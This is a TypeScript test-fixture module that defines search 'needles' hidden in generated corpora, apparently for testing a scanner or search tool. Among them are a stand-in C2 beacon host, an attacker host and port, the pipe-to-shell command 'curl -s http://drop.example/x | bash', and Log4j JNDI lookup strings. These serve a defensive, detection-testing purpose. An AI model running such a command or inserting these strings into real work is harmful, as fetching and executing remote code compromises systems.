import type { SeededRandom } from '../random.ts'
import { wordList } from './texts.ts'

/** What is hidden in the corpora. */
export const needles = {
  literal: 'c2-beacon.evil-corp.example',
  alternation: 'BadGuy.example:4444 token=',
  /** 33 hexadecimal digits in a row. */
  hex: 'deadbeef0123456789abcdef012345678',
  command: 'curl -s http://drop.example/x | bash',
  letters: 'ßабвгдежзийклмнопрстуфхцчшщъыьэюяÄÖÜ',
  class: 'org/apache/logging/log4j/core/lookup/JndiLookup',
  /** In the code of that class, not in its name. */
  code: 'javax/naming/InitialContext jndi:ldap',
} as const

/** As many host names as there are wanted, none of which is in a corpus unless it is put there. */
export function indicators(random: SeededRandom, count: number): readonly string[] {
  const words = wordList(random, 2 * count)
  return Array.from({ length: count }, (_, n) => `${words[2 * n]}-${n}.${words[2 * n + 1]}.evil`)
}

/** As a pattern that means itself. */
export function escaped(literal: string): string {
  return literal.replace(/[.|\\+*?()[\]{}^$]/g, '\\$&')
}
